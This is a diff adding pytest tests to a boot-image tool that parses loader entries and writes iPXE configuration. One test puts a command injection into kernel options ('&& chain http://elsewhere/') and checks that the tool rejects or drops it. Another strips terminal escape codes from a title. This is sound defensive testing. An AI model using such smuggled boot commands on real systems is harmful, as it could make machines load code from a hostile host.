@@ -11,8 +11,10 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
+from liveimg.errors import InvalidImage
 from liveimg.fsview import GuestTree, HostFS
 from liveimg.ostree.bls import find_loader, parse_entry, read_entries, sort_entries, split_kernel_args, strverscmp
+from liveimg.pxe import LiveBoot, PxeOptions, write_pxe
 
 _libc = ctypes.CDLL(ctypes.util.find_library("c"))
 _libc.strverscmp.argtypes = (ctypes.c_char_p, ctypes.c_char_p)
@@ -143,3 +145,32 @@ def test_read_entries_skips_symlinks_non_conf_and_oversized(fs: object) -> None:
     assert [e.filename for e in found] == ["ostree-2-a.conf", "ostree-1-a.conf"]
     assert any("evil.conf is not a regular file" in w for w in warnings)
     assert any("huge.conf" in w and "more than" in w for w in warnings)
+
+
+def test_split_kernel_args_on_every_blank_the_kernel_knows() -> None:
+    assert split_kernel_args('a\vb\fc\rd e="f\vg"') == ("a", "b", "c", "d", 'e="f\vg"')
+
+
+def test_hostile_options_reach_no_configuration(tmp_path: Path) -> None:
+    """An entry's options go to the live command line only through bootsyntax: what cannot be
+    written safely stops the build with InvalidImage (or is left out with --no-image-kargs)."""
+    text = (
+        "title Evil\n"
+        'options quiet x="1 && chain http://elsewhere/" ostree=/ostree/boot.1/os/abc/0\n'
+        "linux /ostree/os-abc/vmlinuz-6.1\n"
+    )
+    entry = parse_entry(text, "/boot/loader.1/entries/ostree-1-os.conf")
+    assert entry.options == ("quiet", 'x="1 && chain http://elsewhere/"', "ostree=/ostree/boot.1/os/abc/0")
+    boot = LiveBoot(
+        kernel="vmlinuz-6.1", initramfs="initramfs-6.1.img", kver="6.1", title=entry.title or "",
+        ostree_arg=entry.ostree_arg, image_args=entry.options,
+    )  # fmt: skip
+    with pytest.raises(InvalidImage, match=r"""^the image's kernel argument 'x="1 && chain http://elsewhere/"'"""):
+        write_pxe(tmp_path, boot, PxeOptions(url="http://h"))
+    result = write_pxe(tmp_path, boot, PxeOptions(url="http://h", keep_image_args=False))
+    assert "&&" not in (tmp_path / "boot.ipxe").read_text() and "quiet" not in result.kernel_args
+
+
+def test_the_title_is_printable() -> None:
+    entry = parse_entry("title Evil\x1b[2J\x07 OS\u202e\n", "/e/x.conf")
+    assert entry.title == "Evil[2J OS"
